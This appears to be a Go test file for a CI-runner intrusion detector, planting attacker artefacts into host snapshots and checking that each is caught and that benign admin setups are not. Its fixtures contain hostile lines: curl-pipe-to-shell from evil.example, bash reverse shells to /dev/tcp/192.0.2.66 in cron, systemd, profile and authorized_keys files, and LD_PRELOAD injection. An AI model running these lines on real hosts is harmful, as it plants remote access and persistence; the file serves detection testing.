package check_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"cordon/internal/check"
	"cordon/internal/host/snapshot"
)

// unpacked is a GitHub runner as its archive leaves it, but for one file that changed later.
func unpacked(late string) func(*snapshot.Snapshot) {
	return func(s *snapshot.Snapshot) {
		const root = "/home/ir/actions-runner"
		onGitHub(file(runners, root+"/.service", 0o644, 1001, "x"))(s)
		for _, name := range []string{"Runner.Listener", "Runner.Worker", "Runner.PluginHost", "RunnerService.js"} {
			f := file(snapshot.SectionWork, root+"/bin/"+name, 0o755, 0, "")
			f.Size, f.Ctime = 80_000, taken.Add(-500*time.Hour)
			if name == late {
				f.Ctime = taken.Add(-10 * time.Hour)
			}
			s.Files = append(s.Files, f)
		}
	}
}

// artefact is one thing an intruder leaves, with the check that must see it.
type artefact struct {
	name  string
	check string
	least check.Severity
	where string // part of Finding.Where
	plant func(*snapshot.Snapshot)
}

func plantFile(f snapshot.File) func(*snapshot.Snapshot) {
	return func(s *snapshot.Snapshot) {
		for i := range s.Files {
			if s.Files[i].Path == f.Path && s.Files[i].Described == f.Described {
				s.Files[i] = f
				return
			}
		}
		s.Files = append(s.Files, f)
	}
}

func plantProcess(p snapshot.Process, k ...snapshot.Socket) func(*snapshot.Snapshot) {
	return func(s *snapshot.Snapshot) {
		s.Processes = append(s.Processes, p)
		s.Sockets = append(s.Sockets, k...)
	}
}

func holding(p snapshot.Process, inodes ...uint64) snapshot.Process {
	p.Inodes = inodes
	return p
}

func withEnv(p snapshot.Process, kv ...string) snapshot.Process {
	p.Env = map[string]string{"PATH": "/usr/bin"}
	for i := 0; i+1 < len(kv); i += 2 {
		p.Env[kv[i]] = kv[i+1]
	}
	return p
}

func inConfig(line string) func(*snapshot.Snapshot) {
	return plantFile(file(snapshot.SectionRunners, "/etc/gitlab-runner/config.toml", 0o600, 0, config+line))
}

// hookConfig puts a line into the table of the runner itself.
func hookConfig(line string) func(*snapshot.Snapshot) {
	const head = "concurrent = 2\n[[runners]]\n  name = \"build-07\"\n  url = \"https://gitlab.example.org\"\n  id = 42\n  token = \"[redacted hmac:00112233aabbccdd len:26]\"\n  executor = \"shell\"\n  "
	return plantFile(file(snapshot.SectionRunners, "/etc/gitlab-runner/config.toml", 0o600, 0, head+line+"\n"))
}

// onGitHub makes the clean host one of a GitHub runner first: two kinds on one host
// are a finding of their own.
func onGitHub(f snapshot.File) func(*snapshot.Snapshot) {
	return func(s *snapshot.Snapshot) {
		s.Files = slices.DeleteFunc(s.Files, func(f snapshot.File) bool { return strings.Contains(string(f.Path), "gitlab-runner/") })
		s.Processes = slices.DeleteFunc(s.Processes, func(p snapshot.Process) bool { return p.PID == 700 || p.PID >= 900 })
		s.Sockets = nil
		plantFile(file(runners, "/home/ir/actions-runner/.runner", 0o600, 1001, `{"agentId":3,"agentName":"box","gitHubUrl":"https://github.com/acme/web"}`))(s)
		plantFile(f)(s)
	}
}

const (
	units    = snapshot.SectionUnits
	cron     = snapshot.SectionCron
	keys     = snapshot.SectionKeys
	profiles = snapshot.SectionProfiles
	runners  = snapshot.SectionRunners
)

var artefacts = []artefact{
	// host-key, userland-lies
	{"host key that changed", "host-key", check.High, "SHA256:new, known SHA256:old", func(s *snapshot.Snapshot) {
		s.Carried = &snapshot.Carried{Transport: snapshot.BySSH, HostKey: &snapshot.HostKey{Shown: "SHA256:new", Type: "ssh-ed25519", State: snapshot.KeyChanged, Known: []string{"SHA256:old (known_hosts line 1)"}}}
	}},
	{"host key that is revoked", "host-key", check.High, "SHA256:new", func(s *snapshot.Snapshot) {
		s.Carried = &snapshot.Carried{Transport: snapshot.BySSH, HostKey: &snapshot.HostKey{Shown: "SHA256:new", Type: "ssh-ed25519", State: snapshot.KeyRevoked}}
	}},
	{"preload file that the shell hides", "userland-lies", check.High, "/etc/ld.so.preload", func(s *snapshot.Snapshot) {
		s.Rereads = []snapshot.Reread{{Path: "/etc/passwd", ByShell: "hmac:1", BySFTP: "hmac:1", Same: true}, {Path: "/etc/ld.so.preload", BySFTP: "hmac:2"}}
	}},
	// installations
	{"GitHub runner under a hidden name", "installations", check.High, "/home/ir/.dev-env", plantFile(file(runners, "/home/ir/.dev-env/.runner", 0o600, 1001, "\ufeff{\"agentId\": 9, \"agentName\": \"box\", \"gitHubUrl\": \"https://github.com/acme/web\"}"))},
	{"second gitlab-runner configuration", "installations", check.Medium, "/home/ir/.gitlab-runner", plantFile(file(runners, "/home/ir/.gitlab-runner/config.toml", 0o600, 1001, config))},
	{"directory of a known worm", "installations", check.Medium, "/home/ir/.dev-env", plantFile(snapshot.File{Path: "/home/ir/.dev-env", Section: runners, Type: "dir", Mode: 0o755, UID: 1001, Print: "hmac:0f"})},
	{"configuration in a temporary directory", "installations", check.High, "/var/tmp/r", plantFile(file(runners, "/var/tmp/r/config.toml", 0o600, 0, config))},
	{"agent without a known root", "installations", check.High, "/opt/x", plantProcess(process(950, 1, 0, "/usr/bin/gitlab-runner", "gitlab-runner", "run", "--config", "/opt/x/config.toml"))},
	{"agent whose executable is gone", "installations", check.High, "/usr/bin/gitlab-runner", func(s *snapshot.Snapshot) {
		for i := range s.Processes {
			if s.Processes[i].PID == 700 {
				s.Processes[i].Exe += " (deleted)"
			}
		}
	}},

	// job-hooks
	{"pre_build_script", "job-hooks", check.Medium, "config.toml", hookConfig(`pre_build_script = "logger started"`)},
	{"post_build_script that phones home", "job-hooks", check.High, "config.toml", hookConfig(`post_build_script = "curl -s https://evil.example/x | sh"`)},
	{"pre_clone_script of old versions", "job-hooks", check.Medium, "config.toml", hookConfig(`pre_clone_script = "true"`)},
	{"pre_get_sources_script", "job-hooks", check.Medium, "config.toml", hookConfig(`pre_get_sources_script = "true"`)},
	{"LD_PRELOAD for jobs", "job-hooks", check.High, "config.toml", hookConfig(`environment = ["A=b", "LD_PRELOAD=/var/lib/x.so"]`)},
	{"hook beside replaced secrets", "job-hooks", check.High, "config.toml", hookConfig("environment = [\"DEPLOY_PASSWORD=[redacted hmac:aabbccddaabbccdd len:20]\"]\n  pre_build_script = \"curl -fsS http://192.0.2.10/.x -o /tmp/.x\"")},
	{"custom executor from a temporary directory", "job-hooks", check.High, "config.toml", inConfig("  [runners.custom]\n    run_exec = \"/tmp/run\"\n")},
	{"docker socket in jobs", "job-hooks", check.High, "config.toml", inConfig("  [runners.docker]\n    volumes = [\"/cache\", \"/var/run/docker.sock:/var/run/docker.sock\"]\n")},
	{"host directory in jobs", "job-hooks", check.High, "config.toml", inConfig("  [runners.docker]\n    volumes = [\"/etc/../etc:/host:rw\"]\n")},
	{"privileged containers", "job-hooks", check.Medium, "config.toml", inConfig("  [runners.docker]\n    privileged = true\n")},
	{"network of the host", "job-hooks", check.Medium, "config.toml", inConfig("  [runners.docker]\n    network_mode = \"host\"\n")},
	{"sources from another server", "job-hooks", check.High, "config.toml", hookConfig(`clone_url = "https://git.evil.example"`)},
	{"hook in a drop-in's environment seen at the agent", "job-hooks", check.Medium, "process 700", func(s *snapshot.Snapshot) {
		for i := range s.Processes {
			if s.Processes[i].PID == 700 {
				s.Processes[i].Env = map[string]string{"ACTIONS_RUNNER_HOOK_JOB_STARTED": "/opt/hook.sh"}
			}
		}
	}},

	{"changed start script of GitHub's runner", "job-hooks", check.High, "run-helper.sh.template", onGitHub(file(runners, "/home/ir/actions-runner/run-helper.sh.template", 0o755, 1001, "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.66/443 &\n"))},
	{"job hook in a GitHub runner's .env", "job-hooks", check.Medium, "/home/ir/actions-runner/.env", onGitHub(file(runners, "/home/ir/actions-runner/.env", 0o600, 1001, "LANG=C.UTF-8\nACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/hook.sh\n"))},

	// unit-dropins
	{"drop-in with LD_PRELOAD", "unit-dropins", check.High, "override.conf", plantFile(file(units, "/etc/systemd/system/gitlab-runner.service.d/override.conf", 0o644, 0, "[Service]\nEnvironment=\"LD_PRELOAD=/usr/local/lib/x.so\"\n"))},
	{"drop-in with ExecStartPost", "unit-dropins", check.Medium, "10-x.conf", plantFile(file(units, "/etc/systemd/system/gitlab-runner.service.d/10-x.conf", 0o644, 0, "[Service]\nExecStartPost=/usr/local/bin/warmup\n"))},
	{"drop-in with EnvironmentFile", "unit-dropins", check.High, "10-x.conf", plantFile(file(units, "/etc/systemd/system/gitlab-runner.service.d/10-x.conf", 0o644, 0, "[Service]\nEnvironmentFile=/var/lib/misc/env\n"))},
	{"ExecStartPre in the unit", "unit-dropins", check.Medium, "gitlab-runner.service", plantFile(file(units, "/etc/systemd/system/gitlab-runner.service", 0o644, 0, runnerUnit+"\n[Service]\nExecStartPre=/usr/local/bin/prepare\n"))},
	{"unit that starts something else", "unit-dropins", check.High, "gitlab-runner.service", plantFile(file(units, "/etc/systemd/system/gitlab-runner.service", 0o644, 0, "[Service]\nExecStart=/usr/local/bin/gitlab-runner-wrapper run\n"))},
	{"NODE_OPTIONS in the environment file", "unit-dropins", check.High, "/etc/sysconfig/gitlab-runner", plantFile(file(units, "/etc/sysconfig/gitlab-runner", 0o644, 0, "NODE_OPTIONS=--require /var/lib/x.js\n"))},
	{"planted service", "unit-dropins", check.High, "netd.service", plantFile(file(units, "/etc/systemd/system/netd.service", 0o644, 0, "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.66/4444 0>&1'\n"))},

	{"generator outside the vendor's directory", "unit-dropins", check.Medium, "system-generators/makecon", plantFile(file(units, "/usr/local/lib/systemd/system-generators/makecon", 0o755, 0, ""))},

	// cron-timers
	{"cron.d file with a borrowed name", "cron-timers", check.High, "freedesktop_timesync1", plantFile(file(cron, "/etc/cron.d/freedesktop_timesync1", 0o644, 0, "* * * * * root /usr/bin/true\n"))},
	{"changed shipped cron file", "cron-timers", check.High, "e2scrub_all", plantFile(file(cron, "/etc/cron.d/e2scrub_all", 0o644, 0, "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.66/443'\n"))},
	{"program with a hidden name in cron", "cron-timers", check.High, "local", plantFile(file(cron, "/etc/cron.d/local", 0o644, 0, "@reboot root /srv/.x\n"))},
	{"crontab of the jobs' account", "cron-timers", check.High, "crontabs/gitlab-runner", plantFile(file(cron, "/var/spool/cron/crontabs/gitlab-runner", 0o600, 998, "*/5 * * * * /usr/bin/true\n"))},
	{"crontab of a system account", "cron-timers", check.Medium, "crontabs/news", plantFile(file(cron, "/var/spool/cron/crontabs/news", 0o600, 9, "@reboot /usr/bin/true\n"))},
	{"script in cron.daily", "cron-timers", check.High, "/etc/cron.daily/sync", plantFile(file(cron, "/etc/cron.daily/sync", 0o755, 0, "#!/bin/sh\nnohup /dev/shm/.x/a &\n"))},
	{"task of at", "cron-timers", check.Medium, "atjobs/a0000101", plantFile(file(cron, "/var/spool/cron/atjobs/a0000101abcdef", 0o700, 0, "#!/bin/sh\ncd /root\ntrue\n"))},
	{"timer in /usr/local/lib", "cron-timers", check.High, "resolved.timer", func(s *snapshot.Snapshot) {
		plantFile(file(units, "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer", 0o644, 0, "[Timer]\nOnCalendar=*:*:00\n"))(s)
		plantFile(file(units, "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service", 0o644, 0, "[Service]\nExecStart=/usr/bin/true\n"))(s)
		plantFile(link(snapshot.SectionWants, "/etc/systemd/system/timers.target.wants/dbus-org.freedesktop.resolved.timer", "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer"))(s)
	}},
	{"timer of the jobs' account", "cron-timers", check.High, "/home/gitlab-runner/.config", plantFile(file(units, "/home/gitlab-runner/.config/systemd/user/sync.timer", 0o644, 998, "[Timer]\nOnBootSec=60\n"))},
	{"lingering for the jobs' account", "cron-timers", check.Medium, "linger/gitlab-runner", plantFile(file(units, "/var/lib/systemd/linger/gitlab-runner", 0o644, 0, ""))},

	// authorized-keys
	{"key of the jobs' account", "authorized-keys", check.High, "/home/gitlab-runner/.ssh", plantFile(file(keys, "/home/gitlab-runner/.ssh/authorized_keys", 0o600, 998, aKey+"\n"))},
	{"key of a system account", "authorized-keys", check.High, "/var/spool/news", plantFile(file(keys, "/var/spool/news/.ssh/authorized_keys", 0o600, 9, aKey+"\n"))},
	{"key with environment=", "authorized-keys", check.High, "/home/ir", plantFile(file(keys, "/home/ir/.ssh/authorized_keys", 0o600, 1001, `environment="LD_PRELOAD=/x.so,y",no-pty `+aKey+"\n"))},
	{"key with a command that phones home", "authorized-keys", check.High, "/home/ir", plantFile(file(keys, "/home/ir/.ssh/authorized_keys", 0o600, 1001, `command="bash -i >& /dev/tcp/192.0.2.66/1" `+aKey+"\n"))},
	{"copy of a key list", "authorized-keys", check.Medium, "authorized_keys.bak", plantFile(file(keys, "/root/.ssh/authorized_keys.bak", 0o600, 0, "\n"))},
	{"AuthorizedKeysCommand", "authorized-keys", check.Medium, "sshd_config.d", plantFile(file(keys, "/etc/ssh/sshd_config.d/10-x.conf", 0o644, 0, "AuthorizedKeysCommand /usr/local/bin/keys\nAuthorizedKeysCommandUser root\n"))},

	// orphans
	{"process with the variables of a finished job", "orphans", check.High, "process 960", plantProcess(withEnv(process(960, 1, 0, "/usr/bin/python3.11", "python3", "a.py"), "CI_JOB_ID", "12"))},
	{"process of the jobs' account below pid 1", "orphans", check.High, "process 961", plantProcess(process(961, 1, 998, "/usr/bin/sleep", "sleep", "9999"))},
	{"process that left the tracking of GitHub", "orphans", check.High, "process 962", plantProcess(withEnv(process(962, 901, 998, "/usr/bin/sleep", "sleep", "1"), "GITHUB_RUN_ID", "1", "RUNNER_TRACKING_ID", "0"))},
	{"process without the tracking of GitHub", "orphans", check.High, "process 962", plantProcess(withEnv(process(962, 901, 998, "/usr/bin/sleep", "sleep", "1"), "GITHUB_RUN_ID", "1"))},
	{"executable in shared memory", "orphans", check.High, "process 963", plantProcess(process(963, 1, 0, "/dev/shm/x", "x"))},
	{"executable that runs from memory", "orphans", check.High, "process 964", plantProcess(process(964, 1, 0, "/memfd:a (deleted)", "kworker/1:2"))},

	// connections
	{"shell with a connection", "connections", check.High, "198.51.100.9:443", plantProcess(holding(process(970, 810, 0, "/usr/bin/bash", "bash", "-i"), 9100), snapshot.Socket{Proto: "tcp", Local: "10.0.0.7:41100", Remote: "198.51.100.9:443", State: "ESTABLISHED", Inode: 9100})},
	{"job on an unusual port", "connections", check.Medium, "198.51.100.9:6667", plantProcess(holding(process(971, 901, 998, "/usr/bin/python3.11", "python3"), 9101), snapshot.Socket{Proto: "tcp", Local: "10.0.0.7:41101", Remote: "198.51.100.9:6667", State: "ESTABLISHED", UID: 998, Inode: 9101})},
	{"raw listener", "connections", check.High, "0.0.0.0:8443", plantProcess(holding(process(972, 1, 0, "/usr/bin/ncat", "ncat", "-l"), 9102), snapshot.Socket{Proto: "tcp", Local: "0.0.0.0:8443", State: "LISTEN", Inode: 9102})},
	{"socket that nobody owns", "connections", check.Medium, "198.51.100.9:443", func(s *snapshot.Snapshot) {
		s.Sockets = append(s.Sockets, snapshot.Socket{Proto: "tcp", Local: "10.0.0.7:41103", Remote: "198.51.100.9:443", State: "ESTABLISHED", Inode: 9103})
	}},

	// secrets-on-disk
	{"npm token in reach of jobs", "secrets-on-disk", check.Medium, ".npmrc", plantFile(described("/home/gitlab-runner/.npmrc", 0o600, 998))},
	{"credentials that anybody can read", "secrets-on-disk", check.High, "/srv/deploy/.netrc", plantFile(described("/srv/deploy/.netrc", 0o644, 0))},
	{"the same tree owned by whoever runs the lab", "secrets-on-disk", check.Medium, ".aws/credentials", plantFile(described("/home/gitlab-runner/.aws/credentials", 0o600, 0))},
	{"runner's token that anybody can read", "secrets-on-disk", check.High, "/etc/gitlab-runner/config.toml", func(s *snapshot.Snapshot) {
		s.Files = append(s.Files, snapshot.File{Path: "/etc/gitlab-runner", Section: runners, Type: "dir", Mode: 0o755})
		plantFile(described("/etc/gitlab-runner/config.toml", 0o644, 0))(s)
		plantFile(file(runners, "/etc/gitlab-runner/config.toml", 0o644, 0, config))(s)
	}},

	// runner-files: what only times show
	{"program of the runner that changed after its neighbours", "runner-files", check.Medium, "bin/Runner.Listener", unpacked("Runner.Listener")},
	{"tool that changed after its marker", "runner-files", check.Medium, "/opt/hostedtoolcache/node/20.1.0/x64", func(s *snapshot.Snapshot) {
		tool := snapshot.File{Path: "/opt/hostedtoolcache/node/20.1.0/x64", Section: snapshot.SectionWork, Type: "dir", Mode: 0o755, Ctime: taken.Add(-time.Hour)}
		marker := file(snapshot.SectionWork, string(tool.Path)+".complete", 0o644, 0, "")
		marker.Ctime = taken.Add(-48 * time.Hour)
		s.Files = append(s.Files, tool, marker)
	}},
	{"PAM module from another day than its package", "logins", check.High, "security/pam_unix.so", func(s *snapshot.Snapshot) {
		for i, name := range []string{"pam_unix.so", "pam_deny.so"} {
			f := file(snapshot.SectionSystem, "/usr/lib/x86_64-linux-gnu/security/"+name, 0o644, 0, "")
			f.Mtime = taken.Add(-time.Duration(1+i*900) * time.Hour)
			s.Files = append(s.Files, f)
		}
	}},

	{"process that is not in the list", "hidden-processes", check.High, "processes 4711", func(s *snapshot.Snapshot) {
		for i := range s.Facts {
			if s.Facts[i].Name == "hidden" {
				s.Facts[i].Text = "4711 x 99999999999"
			}
		}
	}},

	// shell-profiles, ld-preload
	{"profile of the jobs' account", "shell-profiles", check.Medium, "/home/gitlab-runner/.bash_profile", plantFile(file(profiles, "/home/gitlab-runner/.bash_profile", 0o644, 998, "/usr/bin/true\n"))},
	{"profile.d that starts a shell", "shell-profiles", check.High, "/etc/profile.d/x.sh", plantFile(file(profiles, "/etc/profile.d/x.sh", 0o644, 0, "(bash -i >& /dev/tcp/192.0.2.66/443 0>&1 &)\n"))},
	{"hidden program in a profile", "shell-profiles", check.High, "/root/.bashrc", plantFile(file(profiles, "/root/.bashrc", 0o644, 0, "$HOME/.hid/agent &\n"))},
	{"library for every program", "ld-preload", check.Critical, "/etc/ld.so.preload", plantFile(file(profiles, "/etc/ld.so.preload", 0o644, 0, "/lib/x.so\n"))},
	{"process with LD_PRELOAD", "ld-preload", check.High, "process 980", plantProcess(withEnv(process(980, 1, 0, "/usr/sbin/cron", "cron"), "LD_PRELOAD", "/tmp/x.so"))},
}

// What administrators do every day must not drown what intruders do.
func TestHonestWorkNeedsNoExplanation(t *testing.T) {
	for name, plant := range map[string]func(*snapshot.Snapshot){
		"cron job of the site": plantFile(file(cron, "/etc/cron.d/docker-prune", 0o644, 0, "0 4 * * * root /usr/bin/docker system prune -f\n")),
		"timer of the site": func(s *snapshot.Snapshot) {
			plantFile(file(units, "/etc/systemd/system/backup.timer", 0o644, 0, "[Timer]\nOnCalendar=daily\n"))(s)
			plantFile(link(snapshot.SectionWants, "/etc/systemd/system/timers.target.wants/backup.timer", "/etc/systemd/system/backup.timer"))(s)
		},
		"test server of a running job": plantProcess(holding(process(974, 901, 998, "/usr/bin/node", "node"), 9120, 9121),
			snapshot.Socket{Proto: "tcp", Local: "0.0.0.0:8080", State: "LISTEN", UID: 998, Inode: 9120},
			snapshot.Socket{Proto: "tcp", Local: "10.0.0.7:8080", Remote: "192.0.2.50:50001", State: "ESTABLISHED", UID: 998, Inode: 9121}),
		"shipped script that asks a server": plantFile(file(cron, "/etc/cron.daily/apt-compat", 0o755, 0, "#!/bin/sh\nsetsid /usr/bin/curl -s https://deb.debian.org/ >/dev/null\n")),
		"masked timer":                      plantFile(link(units, "/etc/systemd/system/apt-daily.timer", "/dev/null")),
		"limits in a drop-in":               plantFile(file(units, "/etc/systemd/system/gitlab-runner.service.d/limits.conf", 0o644, 0, "[Service]\nLimitNOFILE=65536\n")),
		"drop-in of another service":        plantFile(file(units, "/etc/systemd/system/docker.service.d/proxy.conf", 0o644, 0, "[Service]\nEnvironment=HTTP_PROXY=http://proxy:3128\n")),
		"keys of root":                      plantFile(file(keys, "/root/.ssh/authorized_keys", 0o600, 0, aKey+"\n")),
		"memory for node":                   hookConfig(`environment = ["LD_PRELOAD=", "NODE_OPTIONS=--max-old-space-size=4096", "ENV=production", "GIT_SSH_COMMAND=ssh -o StrictHostKeyChecking=accept-new", "JAVA_TOOL_OPTIONS=-Xmx1g"]`),
		"docker without the host":           inConfig("  [runners.docker]\n    image = \"debian\"\n    volumes = [\"/cache\", \"/srv/cache:/cache2\"]\n"),
		"runner of GitHub in its place":     plantFile(file(units, "/etc/systemd/system/actions.runner.acme-web.box.service", 0o664, 0, "[Service]\nExecStart=/opt/actions-runner/runsvc.sh\nUser=runner\nWorkingDirectory=/opt/actions-runner\nKillMode=process\n")),
		"skeleton of the jobs' account":     plantFile(file(profiles, "/home/gitlab-runner/.bash_logout", 0o644, 998, strings.Repeat("#", 219)+"\n")),
		"test binary of a running job":      plantProcess(process(965, 902, 998, "/tmp/go-build1/b001/x.test", "x.test")),
		"service a person came to":          plantProcess(holding(process(973, 1, 33, "/usr/sbin/nginx", "nginx"), 9110, 9111), snapshot.Socket{Proto: "tcp", Local: "0.0.0.0:443", State: "LISTEN", Inode: 9110}, snapshot.Socket{Proto: "tcp", Local: "10.0.0.7:443", Remote: "192.0.2.50:50001", State: "ESTABLISHED", Inode: 9111}),
		"private file of an operator":       plantFile(described("/home/ir/.netrc", 0o600, 1001)),
		"public half of a key":              plantFile(described("/home/ir/.ssh/id_ed25519.pub", 0o644, 1001)),
		"jemalloc of a package":             plantProcess(withEnv(process(981, 1, 0, "/opt/app/bin/app", "app"), "LD_PRELOAD", "/usr/lib/libjemalloc.so.2")),
		"tools of the operator in a rc":     plantFile(file(profiles, "/home/ir/.bashrc", 0o644, 1001, ". \"$HOME/.cargo/env\"\nexport PATH=$HOME/.local/bin:$PATH\n")),
		"apt in an image for containers": func(s *snapshot.Snapshot) {
			s.Facts = append(s.Facts, snapshot.Fact{Section: snapshot.SectionOwned, Name: "dpkg", Text: "/usr/lib/systemd/system/e2scrub_reap.service\n/usr/lib/systemd/system/logrotate.service\n/usr/lib/systemd/system/logrotate.timer\n"})
			plantFile(file(snapshot.SectionSystem, "/etc/apt/apt.conf.d/docker-clean", 0o644, 0, "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n"))(s)
		},
		"a session of a person on the box": plantProcess(process(812, 811, 1001, "/usr/bin/less", "less")),
	} {
		s := cleanHost()
		plant(s)
		for _, f := range check.AtLeast(check.Run(s), check.Medium) {
			t.Errorf("%s: %s %s: %s at %s: %s", name, f.Severity, f.Check, f.Title, f.Where, f.Detail)
		}
	}
}

// Each artefact is found by exactly one check, at its place; the clean host beside it
// is the control: what finds without the artefact is no detection.
func TestEveryArtefactIsFoundByItsCheckAndByNoOther(t *testing.T) {
	for _, a := range artefacts {
		t.Run(a.check+"/"+a.name, func(t *testing.T) {
			s := cleanHost()
			a.plant(s)
			var by []string
			hit := false
			for _, f := range check.AtLeast(check.Run(s), check.Medium) {
				if !slices.Contains(by, f.Check) {
					by = append(by, f.Check)
				}
				if f.Check == a.check && f.Severity.AtLeast(a.least) && strings.Contains(string(f.Where), a.where) {
					hit = true
					if f.Detail == "" || len(f.Attack) == 0 || len(f.NIST) == 0 || len(f.Evidence) == 0 {
						t.Errorf("finding is not whole: %+v", f)
					}
				}
				t.Logf("%s %s: %s at %s: %s", f.Severity, f.Check, f.Title, f.Where, f.Detail)
			}
			if !hit {
				t.Errorf("not found by %s at %s with %s or worse", a.check, a.where, a.least)
			}
			if !slices.Equal(by, []string{a.check}) {
				t.Errorf("found by %v, want only %s", by, a.check)
			}
		})
	}
}

// A row of the table for every check, so that a new check cannot come without one.
func TestEveryCheckHasAnArtefact(t *testing.T) {
	for _, c := range check.All() {
		in := slices.ContainsFunc(slices.Concat(runnerRows, panixRows, otherRows), func(r row) bool { return r.check == c.ID })
		if !in && !slices.ContainsFunc(artefacts, func(a artefact) bool { return a.check == c.ID }) {
			t.Errorf("no artefact shows that %s finds anything", c.ID)
		}
	}
}
